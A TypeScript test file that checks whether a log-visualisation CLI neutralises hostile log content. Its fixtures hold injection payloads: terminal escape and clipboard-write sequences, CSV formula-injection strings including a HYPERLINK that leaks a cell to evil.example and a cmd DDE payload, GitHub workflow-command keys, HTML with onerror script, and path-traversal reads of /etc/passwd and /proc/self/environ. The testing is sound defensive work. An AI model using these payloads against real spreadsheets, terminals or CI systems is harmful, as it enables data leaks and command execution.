/**
 * A log cannot drive the terminal (in-process): escape sequences, other controls and bidi overrides
 * in keys, values and file names come out escaped in the dashboard (final and live frames), chart
 * legends, diagnostics and error messages; CSV guards formula cells; `__proto__` and `constructor`
 * keys are data that change nothing but their own cell. Issue 15: csv and json on a terminal are
 * escaped too; no text line starts with a log's `::` (GitHub workflow commands); markdown turns no
 * log text into links, images or HTML; `view` reads sources only inside the JSON file's folder.
 */
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough, Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runWatch } from '../../src/commands/watch.js';
import type { CommandIO } from '../../src/core/io.js';
import { runInProcess } from '../helpers/visualizations-io.js';
import { ROOT, runCli } from '../helpers/run-cli.js';

const HOSTILE = join(ROOT, 'fixtures/hostile.log');
/** What must never reach a terminal raw: C0 (but \n), DEL, C1, bidi marks, line/paragraph separators. */
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

function expectSafe(text: string): void {
  const m = UNSAFE.exec(text);
  if (m) throw new Error(`raw U+${m[0].charCodeAt(0).toString(16).padStart(4, '0')} at ${m.index}: ${JSON.stringify(text.slice(Math.max(0, m.index - 40), m.index + 40))}`);
}

let dir: string;
/** A copy of hostile.log whose very name is hostile (Linux file names may hold ESC and BEL). */
let evilName: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'vizmeta-hostile-'));
  evilName = join(dir, 'run\x1b]0;pwned\x07\u202egol.log');
  copyFileSync(HOSTILE, evilName);
});

const prototypeNames = Object.getOwnPropertyNames(Object.prototype).sort();
afterAll(() => {
  // Nothing any test ran reached Object.prototype.
  expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(prototypeNames);
  expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
});

describe('hostile content is shown escaped', () => {
  it('watch (not a terminal): the final dashboard', async () => {
    const result = await runInProcess(['watch', '--quiet', HOSTILE]);
    expect(result.status).toBe(0);
    expectSafe(result.stdout);
    expect(result.stdout).toContain('\\x1b[2J\\x1b[Hclear');
    expect(result.stdout).toContain('\\u202eevil_key');
    expect(result.stdout).toContain('key\\nwith newline');
  });

  it('watch on a terminal: live frames hold only vizmeta\'s own sequences', async () => {
    const stdout = new PassThrough();
    const chunks: Buffer[] = [];
    stdout.on('data', (c: Buffer) => chunks.push(c));
    const io: CommandIO = {
      stdin: Readable.from([readFileSync(HOSTILE)]),
      stdout,
      stderr: new PassThrough(),
      stdinIsTTY: false,
      stdoutIsTTY: true,
      columns: 120,
      rows: 50,
      env: {},
      cwd: ROOT,
    };
    const status = await runWatch(['-'], { quiet: true, color: true }, io, { live: true });
    expect(status).toBe(0);
    const own = /\x1b\[\?25[lh]|\x1b[78]|\x1b\[\?7[lh]|\x1b\[\d+;\d+[Hr]|\x1b\[r|\x1b\[[02]?[JK]|\x1b\[[\d;]*m|\r|\n/g;
    const frames = Buffer.concat(chunks).toString();
    expect(frames).toContain('\x1b7');
    expectSafe(frames.replace(own, ''));
    expect(frames).not.toContain('\x1b]');
  });

  it('chart: legends, keys and titles from the log and from file names', async () => {
    const result = await runInProcess(['chart', '--keys', 'accuracy,\u202eevil_key', HOSTILE, evilName]);
    expect(result.status).toBe(0);
    expectSafe(result.stdout);
    expect(result.stdout).toContain('run\\x1b]0;pwned\\x07\\u202egol.log');
    expect(result.stdout).toContain('\\u202eevil_key');
  });

  it('diagnostics and error messages: file names, lines and expressions', async () => {
    const broken = join(dir, 'bad\x1b[2J\x07.log');
    writeFileSync(broken, '{"\x1b]0;x\x07": \n');
    const extracted = await runInProcess(['extract', broken, join(dir, 'missing\x1b[31m\u202e.log')]);
    expect(extracted.status).toBe(2);
    expectSafe(extracted.stderr);
    expect(extracted.stderr).toContain('bad\\x1b[2J\\x07.log:1: looks like metadata but is not valid JSON');
    expect(extracted.stderr).toContain('vizmeta: ');
    expect(extracted.stderr).toContain('missing\\x1b[31m\\u202e.log: no such file');

    for (const args of [
      ['watch', '--stop-when', 'loss > \x1b]0;pwned\x07', HOSTILE],
      ['watch', '--stop-when', '__proto__ > 1', HOSTILE],
      ['watch', '--monitor', 'loss', '--patience', '\u202e1\x1b[2J', HOSTILE],
      ['chart', '--smooth', '\x1b[2J', HOSTILE],
      ['run', '--', '\x1b]0;pwned\x07-no-such-command'],
    ]) {
      const result = await runInProcess(args);
      expect(result.status, args.join(' ')).toBeGreaterThanOrEqual(2);
      expect(result.stderr).toMatch(/^vizmeta: /);
      expectSafe(result.stderr);
    }
  });

  it('an early-stop notice quoting a hostile string value stays escaped', async () => {
    const result = await runInProcess(['watch', '--quiet', '--stop-when', 'step >= 2', HOSTILE]);
    expect(result.status).toBe(0);
    expectSafe(result.stderr);
    expectSafe(result.stdout);
  });
});

describe('CSV formula guard (extract --format csv)', () => {
  it('text cells starting with = + - @ tab or CR get a leading apostrophe; numbers stay numbers', async () => {
    const result = await runInProcess(['extract', '--format', 'csv', HOSTILE]);
    expect(result.status).toBe(0);
    // (A key holds a newline, so the header spans two physical lines: look in the whole text.)
    expect(result.stdout).toContain(",cr_formula,'=1+1,accuracy,");
    const rows = result.stdout.split('\n');
    const six = rows.find((r) => r.startsWith('6,')) as string;
    expect(six).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1, ""Click for results"")"`);
    expect(six).toContain(",'+cmd|' /C calc'!A0,'-2+3,'@SUM(A1),'\t=1+1,\"'\r=1+1\",formula as a key,0.91,");
    const negative = await runInProcess(['extract', '--format', 'csv'], { input: '{"loss": -0.5, "note": "-0.5"}\n' });
    expect(negative.stdout.split('\n')[1]).toMatch(/^-0\.5,'-0\.5,/);
  });
});

describe('__proto__ and constructor keys are plain data', () => {
  const log = [
    '{"step": 1, "__proto__": {"polluted": 1, "loss": 9}, "constructor": {"prototype": {"polluted": 2}}, "loss": 0.5}',
    '{"step": 2, "toString": 3, "hasOwnProperty": 4, "valueOf": 5, "loss": 0.25}',
    '{"step": 3, "__proto__": 7, "loss": 0.125}',
  ].join('\n') + '\n';

  it('extract keeps them as their own cells', async () => {
    const result = await runInProcess(['extract'], { input: log });
    expect(result.status).toBe(0);
    const lines = result.stdout.trim().split('\n');
    expect(lines[0]).toMatch(/^\{"step":1,"__proto__":\{"polluted":1,"loss":9\},"constructor":\{"prototype":\{"polluted":2\}\},"loss":0.5,"_time":/);
    expect(lines[2]).toMatch(/^\{"step":3,"__proto__":7,"loss":0.125,/);
    const csv = await runInProcess(['extract', '--format', 'csv'], { input: log });
    expect(csv.stdout.split('\n')[0]).toBe('step,__proto__.polluted,__proto__.loss,constructor.prototype.polluted,loss,toString,hasOwnProperty,valueOf,__proto__,_time');
  });

  it('watch, chart and the stop rules chart and read them as keys, nothing else', async () => {
    const watched = await runInProcess(['watch', '--quiet'], { input: log });
    expect(watched.status).toBe(0);
    // Printed once with one value, it is a setting: on the settings line, not charted.
    expect(watched.stdout).toMatch(/^settings .*__proto__\.polluted 1( ·|$)/m);
    expect(watched.stdout).toMatch(/\nloss +0\.125 +0\.125 +0\.5 +3 /);
    const charted = await runInProcess(['chart', '--keys', '__proto__.loss,toString,loss'], { input: log });
    expect(charted.status).toBe(0);
    expect(charted.stdout).toMatch(/\n__proto__\.loss +9 +9 +9 +1 /);
    // Names that reach prototypes are refused in expressions.
    const refused = await runInProcess(['watch', '--stop-when', 'constructor.prototype.polluted > 1'], { input: log });
    expect(refused.status).toBe(2);
    const stopped = await runInProcess(['watch', '--quiet', '--stop-when', 'toString >= 3'], { input: log });
    expect(stopped.status).toBe(0);
    expect(stopped.stderr).toMatch(/early stop: .* at step 2/);
  });
});

/** Runs the CLI in-process with stdout a terminal (or, `tty: false`, a pipe as on a CI runner). */
async function runOn(args: string[], tty: boolean, cwd = ROOT): Promise<{ stdout: string; stderr: string; status: number }> {
  const { main } = await import('../../src/program.js');
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  const out: Buffer[] = [];
  const err: Buffer[] = [];
  stdout.on('data', (c: Buffer) => out.push(c));
  stderr.on('data', (c: Buffer) => err.push(c));
  const io: CommandIO = { stdin: Readable.from([]), stdout, stderr, stdinIsTTY: false, stdoutIsTTY: tty, columns: 200, rows: 50, env: { NO_COLOR: '1' }, cwd };
  const status = await main(args, io);
  return { stdout: Buffer.concat(out).toString('utf8'), stderr: Buffer.concat(err).toString('utf8'), status };
}

/** Keys that would write the clipboard (OSC 52), send an 8-bit CSI (C1) or reverse text (bidi). */
const OSC52 = '\x1b]52;c;ZXZpbA==\x07';
function writeTerminalKeysLog(name: string): string {
  const path = join(dir, name);
  const line = (step: number, acc: number): string => JSON.stringify({ step, accuracy: acc, [`clip${OSC52}`]: step, 'c1\u009b2J': step, '\u202eevil': step, label: `x${OSC52}\u0085\u2066` });
  writeFileSync(path, `${line(1, 0.5)}\n${line(2, 0.7)}\n`);
  return path;
}

describe('terminal output of every format carries no control, C1 or bidi character (issue 15, 9)', () => {
  let a: string;
  let b: string;
  let matrixLog: string;
  beforeAll(() => {
    a = writeTerminalKeysLog('term-a.log');
    b = writeTerminalKeysLog('term-b.log');
    matrixLog = join(dir, 'term-matrix.log');
    writeFileSync(matrixLog, `${JSON.stringify({ confusion: [[`cat${OSC52}`, 'dog\u009b2J', '\u202ebird'], [4, 1, 0], [1, 3, 1], [0, 1, 4]] })}\n`);
  });
  const cases: Array<[string, () => string[]]> = [
    ['sort --format csv', () => ['sort', '--by', 'accuracy', '--keys', 'all', '--format', 'csv', a, b]],
    ['sort --format json', () => ['sort', '--by', 'accuracy', '--keys', 'all', '--format', 'json', a, b]],
    ['compare --format csv', () => ['compare', '--format', 'csv', a, b]],
    ['compare --format json', () => ['compare', '--format', 'json', a, b]],
    ['table --format csv', () => ['table', '--format', 'csv', a]],
    ['table --format json', () => ['table', '--format', 'json', a]],
    ['stats --format csv', () => ['stats', '--format', 'csv', a]],
    ['stats --format json', () => ['stats', '--format', 'json', a]],
    ['matrix --format json', () => ['matrix', '--format', 'json', matrixLog]],
  ];
  for (const [name, args] of cases) {
    it(`${name} on a terminal`, async () => {
      const result = await runOn(args(), true);
      expect(result.stderr).toBe('');
      expect(result.status).toBe(0);
      expectSafe(result.stdout.replace(/\n/g, ''));
      expect(result.stdout).toMatch(/\\(x1b|u001b)\]52;c;ZXZpbA==/);
    });
  }
  it('json stays the same JSON: parsed, the keys are the log\'s keys', async () => {
    const result = await runOn(['table', '--format', 'json', a], true);
    expect(result.stdout).toContain('\\u0085\\u2066');
    expect(result.stdout).toContain(JSON.stringify(`clip${OSC52}`).slice(1, 10));
  });
  it('to a pipe, csv is the data as it is', async () => {
    const result = await runOn(['table', '--format', 'csv', a], false);
    expect(result.stdout).toContain(`clip${OSC52}`);
  });
});

/** A line GitHub's runner would read as a workflow command (it trims leading white space first). */
const WORKFLOW_LINE = /^\s*::/mu;

describe('no line of text output starts with a log-controlled :: (issue 15, 10)', () => {
  let stopLog: string;
  let keysLog: string;
  let keysLog2: string;
  let matrixLog: string;
  beforeAll(() => {
    stopLog = join(dir, '::stop-commands::abc.log');
    writeFileSync(stopLog, '{"step": 1, "accuracy": 0.5}\n');
    keysLog = join(dir, 'colons-a.log');
    keysLog2 = join(dir, 'colons-b.log');
    const line = (step: number): string => JSON.stringify({ step, accuracy: 0.5 + step / 10, '::add-mask::secret': step, '::error::pwned': step / 2 });
    writeFileSync(keysLog, `${line(1)}\n${line(2)}\n`);
    writeFileSync(keysLog2, `${line(1)}\n${line(3)}\n`);
    matrixLog = join(dir, 'colons-matrix.log');
    writeFileSync(matrixLog, `${JSON.stringify({ confusion: [['::error::cat', '::add-mask::dog'], [4, 1], [1, 3]] })}\n`);
  });

  it('gate --github: the text report before the annotations names the log, guarded; the annotations stay', async () => {
    // The built CLI in the log's folder, so the report names the log as given: ::stop-commands::abc.log.
    const result = await runCli(['gate', '--github', '--when', 'accuracy >= 0.9', '::stop-commands::abc.log'], { cwd: dir });
    expect(result.stderr).toBe('');
    expect(result.status).toBe(1);
    const [report, annotations] = [result.stdout.split('::error')[0] ?? '', result.stdout.slice(result.stdout.indexOf('\n::error'))];
    expect(report).toContain('\\::stop-commands::abc.log');
    expect(report).not.toMatch(WORKFLOW_LINE);
    expect(annotations).toMatch(/^::error/m);
    expect(result.stdout).not.toMatch(/^\s*::stop-commands/m);
  });
  const cases: Array<[string, () => string[]]> = [
    ['stats', () => ['stats', keysLog]],
    ['compare', () => ['compare', '--keys', '::add-mask::secret,::error::pwned', keysLog, keysLog2]],
    ['table', () => ['table', '--keys', '::add-mask::secret,::error::pwned', keysLog]],
    ['table --group-by', () => ['table', '--group-by', '::add-mask::secret', keysLog]],
    ['chart', () => ['chart', '--keys', '::add-mask::secret', keysLog]],
    ['matrix', () => ['matrix', matrixLog]],
  ];
  for (const [name, args] of cases) {
    it(`${name}: every line that would start with :: is guarded with a backslash`, async () => {
      const result = await runOn(args(), false, dir);
      expect(result.stderr).toBe('');
      expect(result.status).toBe(0);
      expect(result.stdout).not.toMatch(WORKFLOW_LINE);
      expect(result.stdout).toMatch(/^\s*\\::/m);
    });
  }
});

/** Markdown a renderer (GitHub's) would turn into a link, an image, raw HTML or an autolink. */
function expectInertMarkdown(text: string): void {
  expect(text).not.toMatch(/(?<!\\)\]\(/);
  expect(text).not.toMatch(/(?<!\\)\[[^\]\n]*(?<!\\)\]/);
  expect(text).not.toMatch(/<(img|a|script)\b/i);
  expect(text).not.toMatch(/(?<!\\):\/\//);
  expect(text).not.toMatch(/(?<![\\\w])www\.(?!\\)/i);
}

describe('markdown output neutralises links, images and HTML from log text (issue 15, 11)', () => {
  const LINK = '[click](https://evil.example)';
  const VALUE = `${LINK} ![x](http://evil/t.png) <img src=x onerror=alert(1)> www.evil.example`;
  let a: string;
  let b: string;
  beforeAll(() => {
    a = join(dir, '[a](evil.example).log');
    b = join(dir, 'md-b.log');
    const line = (step: number): string => JSON.stringify({ step, accuracy: 0.5 + step / 10, [LINK]: step, label: VALUE });
    writeFileSync(a, `${line(1)}\n${line(2)}\n`);
    writeFileSync(b, `${line(1)}\n${line(3)}\n`);
  });
  const cases: Array<[string, () => string[], number]> = [
    ['sort', () => ['sort', '--by', 'accuracy', '--keys', 'all', '--format', 'markdown', a, b], 0],
    ['compare', () => ['compare', '--format', 'markdown', a, b], 0],
    ['table', () => ['table', '--format', 'markdown', a], 0],
    ['table --group-by', () => ['table', '--group-by', 'label', '--format', 'markdown', a], 0],
    ['stats', () => ['stats', '--format', 'markdown', a], 0],
    ['gate', () => ['gate', '--when', 'label == "ok"', '--format', 'markdown', a], 1],
  ];
  for (const [name, args, status] of cases) {
    it(`${name} --format markdown`, async () => {
      const result = await runOn(args(), false);
      expect(result.stderr).toBe('');
      expect(result.status).toBe(status);
      expect(result.stdout).toMatch(/\\\[(click|a)\\\]/);
      expectInertMarkdown(result.stdout);
    });
  }

  it('view --format markdown: Kubeflow markdown without escapes, its open code fence closed', async () => {
    const ui = join(dir, 'md-ui.json');
    writeFileSync(ui, JSON.stringify({ version: 1, outputs: [
      { type: 'markdown', storage: 'inline', source: `# Report\n\nclipboard: ${OSC52} c1 \u009b2J bidi \u202e\n\n\`\`\`python\nprint("never closed")\n` },
      { type: 'table', format: 'csv', header: ['model', 'accuracy'], storage: 'inline', source: 'resnet,0.9' },
    ] }));
    const result = await runOn(['view', '--format', 'markdown', ui], false);
    expect(result.status).toBe(0);
    expectSafe(result.stdout.replace(/\n/g, ''));
    expect(result.stdout).toContain('\\x1b]52;c;ZXZpbA==\\x07');
    // Every fence opened is closed before the next section's heading.
    const before = result.stdout.slice(0, result.stdout.indexOf('### 2.'));
    expect(before.match(/^```/gm)?.length).toBe(2);
    expect(result.stdout).toMatch(/^\| model \| accuracy \|$/m);
  });
});

describe('view reads sources only inside the metadata file\'s folder (issue 15, 12)', () => {
  let folder: string;
  const ui = (outputs: unknown[]): string => {
    const path = join(folder, `ui-${Math.random().toString(36).slice(2)}.json`);
    writeFileSync(path, JSON.stringify({ version: 1, outputs }));
    return path;
  };
  beforeAll(() => {
    folder = mkdtempSync(join(dir, 'kubeflow-'));
    mkdirSync(join(folder, 'sub'));
    writeFileSync(join(folder, 'sub', 'notes.md'), '# inside the folder\n');
    writeFileSync(join(dir, 'secret.txt'), 'TOKEN=hunter2\n');
    symlinkSync('/etc/passwd', join(folder, 'passwd-link.md'));
  });

  const refused: Array<[string, () => string]> = [
    ['an absolute path (/proc/self/environ)', () => '/proc/self/environ'],
    ['a file:// URL (file:///etc/passwd)', () => 'file:///etc/passwd'],
    ['a path with .. (../secret.txt)', () => '../secret.txt'],
    ['a link in the folder leading out', () => 'passwd-link.md'],
  ];
  for (const [name, source] of refused) {
    it(`${name} is not read, in markdown (the step summary) or text`, async () => {
      for (const format of ['markdown', 'text']) {
        const result = await runOn(['view', '--format', format, ui([{ type: 'markdown', source: source() }, { type: 'markdown', storage: 'inline', source: 'after' }])], false);
        expect(result.status).toBe(2);
        expect(result.stderr).toContain('is outside the metadata file\'s folder');
        expect(result.stderr).toContain('--allow-outside');
        for (const text of [result.stdout, result.stderr]) {
          expect(text).not.toContain('PATH=');
          expect(text).not.toContain('root:');
          expect(text).not.toContain('hunter2');
        }
        expect(result.stdout).toContain('after');
      }
    });
  }

  it('a source inside the folder is read; --allow-outside reads one outside', async () => {
    const inside = await runOn(['view', '--format', 'markdown', ui([{ type: 'markdown', source: 'sub/notes.md' }])], false);
    expect(inside.status).toBe(0);
    expect(inside.stdout).toContain('# inside the folder');
    const outside = await runOn(['view', '--allow-outside', '--format', 'markdown', ui([{ type: 'markdown', source: '../secret.txt' }])], false);
    expect(outside.status).toBe(0);
    expect(outside.stdout).toContain('TOKEN=hunter2');
  });

  it('error messages do not quote what a file holds', async () => {
    const table = await runOn(['view', '--allow-outside', ui([{ type: 'confusion_matrix', format: 'csv', source: '../secret.txt' }])], false);
    expect(table.status).toBe(2);
    expect(table.stderr).not.toContain('hunter2');
    const csv = join(folder, 'bad.csv');
    writeFileSync(csv, 'cat,dog,1\ncat,dog,hunter2\n');
    const cell = await runOn(['view', ui([{ type: 'confusion_matrix', format: 'csv', source: 'bad.csv' }])], false);
    expect(cell.status).toBe(2);
    expect(cell.stderr).toMatch(/bad\.csv:2: count \(a value\) is not a number/);
    expect(cell.stderr).not.toContain('hunter2');
    const notJson = await runOn(['view', join(dir, 'secret.txt')], false);
    expect(notJson.status).toBe(2);
    expect(notJson.stderr).toContain('not valid JSON');
    expect(notJson.stderr).not.toContain('hunter2');
  });
});
